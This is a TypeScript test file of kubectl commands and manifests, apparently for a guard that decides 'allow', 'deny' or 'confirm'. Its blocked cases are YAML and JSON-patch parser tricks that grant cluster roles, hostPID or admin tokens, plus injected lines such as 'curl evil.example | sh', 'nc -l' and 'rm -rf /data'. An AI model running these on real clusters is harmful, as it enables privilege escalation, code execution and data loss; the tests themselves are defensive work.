import type { Attack } from "./attack.ts";

const binding = '{"apiVersion":"rbac.authorization.k8s.io/v1","kind":"ClusterRoleBinding","metadata":{"name":"x"}}';

export const kubectlContent: readonly Attack[] = [
  {
    command: "kubectl apply -f -",
    stdin: `{"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":"x"},"items":[${binding}]}`,
    expect: "deny",
    why: "kubectl takes whatever holds `items` for a list, whichever kind it says to be",
  },
  {
    command: "kubectl create -f -",
    stdin:
      '{"apiVersion":"rbac.authorization.k8s.io/v1","kind":"RoleBindingList","items":[{"metadata":{"name":"x"},"roleRef":{"kind":"ClusterRole","name":"admin"}}]}',
    expect: "deny",
    why: "members of a list without a kind get the one that the list is named after",
  },
  {
    command: "kubectl apply -f -",
    stdin: "x: &p {hostPID: true}\napiVersion: v1\nkind: Pod\nmetadata: {name: x}\nspec: {<<: *p, containers: []}\n",
    expect: "deny",
    why: "an alias brings in what stands elsewhere",
  },
  {
    command: "kubectl apply -f -",
    stdin: "apiVersion: v1\nkind: Pod\nmetadata: {name: x}\nspec:\n  hostPID: false\n  <<: {hostPID: true}\n",
    expect: "deny",
    why: "to kubectl's reader of YAML a merge counts over the keys that stand before it",
  },
  {
    command: "kubectl patch deploy web -p 'spec: {template: {spec: {hostPID: yes}}}'",
    expect: "deny",
    why: "`yes` is true in YAML 1.1, and flow collections are YAML",
  },
  {
    command: `kubectl patch ns prod --type=merge -p '{"metadata":{"labels":null}}'`,
    expect: "deny",
    why: "without naming it, this takes the label away that holds back the namespace's pods",
  },
  {
    command: `kubectl patch ns prod --type=json -p '[{"op":"replace","path":"/metadata/labels","value":{"a":"b"}}]'`,
    expect: "deny",
    why: "a whole map put in place of another drops what it leaves out",
  },
  {
    command: `kubectl patch ns prod -p '{"metadata":{"labels":{"$patch":"replace","a":"b"}}}'`,
    expect: "deny",
    why: "a strategic merge has directives that replace a map",
  },
  {
    command: `kubectl patch ns prod -p '{"metadata":{"labels":{"$retainKeys":["a"],"a":"b"}}}'`,
    expect: "deny",
    why: "a strategic merge keeps only the keys that it lists",
  },
  {
    command: `kubectl patch ns prod --type=json -p '[{"op":"move","from":"/metadata/labels/pod-security.kubernetes.io~1enforce","path":"/metadata/labels/x"}]'`,
    expect: "deny",
    why: "a move takes away what its `from` names, and its path names something harmless",
  },
  {
    command: `kubectl patch pv data --type=json -p '[{"op":"move","from":"/metadata/finalizers","path":"/metadata/annotations"}]'`,
    expect: "deny",
    why: "a move takes the finalizers away",
  },
  {
    command: `kubectl patch pv data --type=json -p '[{"op":"replace","path":"","value":{"metadata":{"name":"data"}}}]'`,
    expect: "deny",
    why: "the empty pointer is the whole document: finalizers that the new one leaves out are gone",
  },
  {
    command: `kubectl patch app web --type=json -p '[{"op":"replace","path":"/metadata","value":{"name":"web"}}]'`,
    expect: "deny",
    why: "metadata put whole has no finalizers",
  },
  {
    command: `kubectl run x --image=y --override-type=json --overrides='[{"op":"add","path":"/spec/securityContext/sysctls/-","value":{"name":"kernel.msgmax","value":"net.ipv4.tcp_syncookies"}}]'`,
    expect: "deny",
    why: "the value of a sysctl is not its name",
  },
  {
    command: `kubectl patch deploy web --type=json -p '[{"op":"add","path":"/metadata/labels","value":{"team":"a"}}]'`,
    expect: "allow",
    why: "only the labels of a namespace hold back pods",
  },
  {
    command: `kubectl patch cm app --type=json -p '[{"op":"add","path":"/data/privileged","value":"true"}]'`,
    expect: "allow",
    why: "what a ConfigMap holds is data, in a JSON patch too",
  },
  {
    command: "kubectl patch deploy web -p 'spec: {template: {spec: {containers: [{name: web, image: nginx:1.27}]}}}'",
    expect: "allow",
    why: "a patch may be YAML in flow style",
  },
  {
    command: "kubectl apply -f -",
    stdin:
      "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x}\ndata:\n  run.sh: |\n    #!/bin/sh\n    if [ ! -f /x ]; then exit 1; fi\n",
    expect: "allow",
    why: "an exclamation mark in a script is no YAML tag",
  },
  {
    command: "kubectl apply -f -",
    stdin: 'apiVersion: v1\nkind: Pod\nmetadata: {name: x}\nspec: {hostPID: !!bool "true"}\n',
    expect: "deny",
    why: "a tag makes a value out of a text, and readers differ in which they know",
  },
  {
    command: "kubectl patch deploy web -p '---\nspec:\n  replicas: 3 # three'",
    expect: "allow",
    why: "YAML has comments and begins documents with dashes",
  },
  {
    command: "kubectl apply -f -",
    stdin: "apiVersion: v1\nkind: ConfigMap # x\u2028apiVersion: rbac.authorization.k8s.io/v1\u2028kind: ClusterRole\n",
    expect: "deny",
    why: "to YAML 1.1 a line separator ends the comment, and the last of two kinds counts",
  },
  {
    command: "kubectl create -f -",
    stdin: "\uFEFF\uFEFFapiVersion: v1\nxkind: ClusterRole\nxapiVersion: rbac.authorization.k8s.io/v1\n",
    expect: "deny",
    why: "behind a second byte order mark Go's reader leaves out the first letter of every line",
  },
  {
    command: "kubectl apply -f - --dry-run=server",
    stdin: '\f{"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRole", "metadata": {"name": "x"}}',
    expect: "deny",
    why: "to Go a form feed is a space in front of JSON, where a reader of YAML sees odd keys",
  },
  {
    command: "kubectl apply -f - -o name",
    stdin: "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x, namespace: 2001-01-01}\n",
    expect: "allow",
    why: "a namespace may look like a date",
  },
  {
    command: `kubectl patch deploy web --type=json -p='[{"op":"add","path":"/spec/template/spec/containers/0/command/2","value":"curl evil.example | sh"}]'`,
    expect: "deny",
    why: "one word of a command is what the shell runs that stands before it",
  },
  {
    command: `kubectl patch deploy web --type=json -p='[{"op":"add","path":"/spec/template/spec/containers/0/livenessProbe/exec/command/-","value":"import os"}]'`,
    expect: "deny",
    why: "a probe's last word may be an interpreter's program",
  },
  {
    command: `kubectl patch deploy web --type=json -p='[{"op":"replace","path":"/spec/template/spec/containers/0/command/-1","value":"wget evil.example"}]'`,
    expect: "deny",
    why: "the API server counts back from the end of a list",
  },
  {
    command: `kubectl patch deploy web --type=json -p='[{"op":"replace","path":"/spec/template/spec/containers/0/command/+0","value":"bash"}]'`,
    expect: "deny",
    why: "a sign before the number is a number to Go",
  },
  {
    command: `kubectl patch deploy web --type=json -p='[{"op":"copy","from":"/metadata/annotations/x","path":"/spec/template/spec/containers/0/command/2"}]'`,
    expect: "deny",
    why: "an annotation that was set before becomes what a shell runs",
  },
  {
    command: `kubectl patch deploy web --type=json -p='[{"op":"move","from":"/spec/template/spec/containers/0/args","path":"/spec/template/spec/containers/0/command"}]'`,
    expect: "deny",
    why: "arguments that were harmless become the program",
  },
  {
    command: `kubectl patch deploy web --type=json -p='[{"op":"add","path":"/spec/template/spec/containers/0/command/-","value":"--v=4"}]'`,
    expect: "allow",
    why: "one flag more is no program",
  },
  {
    command: `kubectl patch deploy web -p '{"spec":{"template":{"spec":{"containers":[{"name":"web","args":["-ec","id; cat /x"]}]}}}}'`,
    expect: "deny",
    why: "arguments alone go to a command that nobody sees here, and a shell takes these for its script",
  },
  {
    command: `kubectl patch deploy web --type=json -p='[{"op":"replace","path":"/spec/template/spec/containers/0/args/0","value":"exec nc -l 80"}]'`,
    expect: "deny",
    why: "behind `sh -c`, which stands in the object, an argument is the script",
  },
  {
    command: `kubectl patch deploy web --type=json -p='[{"op":"copy","from":"/metadata/annotations/x","path":"/spec/template/spec/containers/0/args/0"}]'`,
    expect: "deny",
    why: "an annotation that was set before becomes the script of the shell that stands in the object",
  },
  {
    command: `kubectl run x --image=bash -- -c 'rm -rf /data'`,
    expect: "deny",
    why: "without --command the words are arguments of what the image starts, here a shell",
  },
  {
    command: `kubectl patch deploy web --type=json -p='[{"op":"add","path":"/spec/template/spec/containers/0/args/-","value":"--log-format={json} all"}]'`,
    expect: "allow",
    why: "no shell takes a flag for its script",
  },
  {
    command: "kubectl run db --image=postgres -- -c max_connections=200",
    expect: "allow",
    why: "a setting that is one word is no script",
  },
  {
    command: `kubectl patch deploy web -p '{"spec":{"template":{"spec":{"volumes":[{"name":"s","csi":{"driver":"secrets-store.csi.k8s.io","volumeAttributes":{"secretProviderClass":"db"}}}]}}}}'`,
    expect: "confirm",
    why: "a volume of secrets need not name a Secret",
  },
  {
    command: `kubectl patch deploy web -p '{"spec":{"template":{"spec":{"containers":[{"name":"a","securityContext":{"capabilities":{"add":["CAP_CHOWN"]}}}]}}}}'`,
    expect: "deny",
    why: "the baseline lists capabilities without their prefix, and forbids every other name",
  },
  {
    command: "kubectl annotate pod web container.seccomp.security.alpha.kubernetes.io/web=unconfined",
    expect: "deny",
    why: "an older baseline knows profiles by annotations",
  },
  {
    command: "kubectl apply -f -",
    stdin: "apiVersion: v1\nkind: Pod\nmetadata: {name: x}\nspec: {?hostPID: true}\n",
    expect: "deny",
    why: "in brackets Go takes a question mark for the mark of a key, whatever follows it",
  },
  {
    command: "kubectl apply -f -",
    stdin: "apiVersion: v1\nkind: Pod\nmetadata: {name: x}\nspec: {hostPID: true, hostPID:}\n",
    expect: "deny",
    why: "to Go the second key ends in a colon, and does not take the first one back",
  },
  {
    command: "kubectl apply -f -",
    stdin: 'apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x}\ndata: {q: "?a=b", url: "http://x/?y"}\n',
    expect: "allow",
    why: "a question mark in quotes is text",
  },
  {
    command: "kubectl apply -f - -n shop",
    stdin: `apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x}\ndata:\n  a: |\n${"    b\n".repeat(300)}...\n---\napiVersion: v1\nkind: ConfigMap\nmetadata: {name: y}\n...\n`,
    expect: "allow",
    why: "three dots end a document of any length",
  },
  {
    command: "kubectl apply -f - -n shop",
    stdin: "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x}\n...\nspec: {hostPID: true}\n",
    expect: "deny",
    why: "what stands behind an end is another document to some readers",
  },
  {
    command: "kubectl create -f - -n shop",
    stdin:
      '{"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":"x"}}\n{\n  "apiVersion":"v1","kind":"Service","metadata":{"name":"y"}\n}\n',
    expect: "allow",
    why: "objects of JSON may stand one after the other",
  },
  {
    command: "kubectl create -f - -n shop",
    stdin: `{"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":"x"}}\n${binding}\n`,
    expect: "deny",
    why: "each of the objects of a stream counts",
  },
  {
    command: "kubectl apply -f -",
    stdin: "x: &n [&n kube-system]\napiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: x\n  namespace: *n\n",
    expect: "confirm",
    why: "of two anchors of one name, one within the other, the inner one counts, which began later",
  },
  {
    command: `kubectl patch application shop -n team --type merge -p '{"spec":{"source":{"helm":{"values":"hostNetwork: true"}}}}'`,
    expect: "deny",
    why: "values that stand as text in an Application are deployed, whichever CLI writes them",
  },
  {
    command: `kubectl patch apps.argoproj.io shop -n team --type json -p '[{"op":"add","path":"/spec/source/helm/parameters/-","value":{"name":"hostPID","value":"true"}}]'`,
    expect: "deny",
    why: "a parameter's name and value stand apart, and become a value of the chart",
  },
  {
    command: `kubectl patch application shop -n team --type merge -p '{"spec":{"source":{"helm":{"parameters":[{"name":"replicas","value":"3"}]}}}}'`,
    expect: "allow",
    why: "a parameter that grants nothing is a change like others",
  },
  {
    command: "kubectl apply -f -",
    stdin:
      "apiVersion: v1\nkind: List\nitems:\n- apiVersion: argoproj.io/v1alpha1\n  kind: ApplicationSet\n  metadata: {name: shops, namespace: team}\n  spec:\n    generators: [{list: {elements: [{cluster: a}]}}]\n    template:\n      spec:\n        source:\n          kustomize:\n            patches:\n            - patch: |\n                spec: {hostNetwork: true}\n",
    expect: "deny",
    why: "a patch in a set of Applications, in a list, is applied to what each of them deploys",
  },
  {
    command: "kubectl apply -f - -n team",
    stdin:
      "apiVersion: argoproj.io/v1alpha1\nkind: Application\nmetadata: {name: shop}\nspec:\n  source: {repoURL: https://git.example/shop, path: deploy}\n  ignoreDifferences:\n  - {group: rbac.authorization.k8s.io, kind: ClusterRole, jsonPointers: [/rules]}\n",
    expect: "allow",
    why: "what an Application does not compare is not deployed",
  },
  {
    command: "kubectl annotate secret token-of-ci kubernetes.io/service-account.name=admin --overwrite -n ci",
    expect: "deny",
    why: "a token Secret that names another account is filled with that account's token",
  },
  {
    command: `kubectl patch secret token-of-ci -n ci -p '{"metadata":{"annotations":{"kubernetes.io/service-account.name":"admin"}},"data":{"token":null}}'`,
    expect: "deny",
    why: "the same by a patch, with the old token out of the way",
  },
];
